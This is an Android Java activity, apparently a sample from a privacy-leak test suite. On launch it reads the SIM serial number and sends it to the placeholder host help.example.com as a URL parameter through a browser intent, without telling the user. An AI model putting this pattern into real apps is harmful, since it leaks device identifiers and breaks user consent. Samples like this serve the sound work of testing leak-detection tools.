package cn.privlens.suite.view_address;

import android.app.Activity;
import android.content.Intent;
import android.net.Uri;
import android.os.Bundle;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Uri u = Uri.parse("https://help.example.com/?sim=" + ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
        startActivity(new Intent(Intent.ACTION_VIEW, u));
    }
}
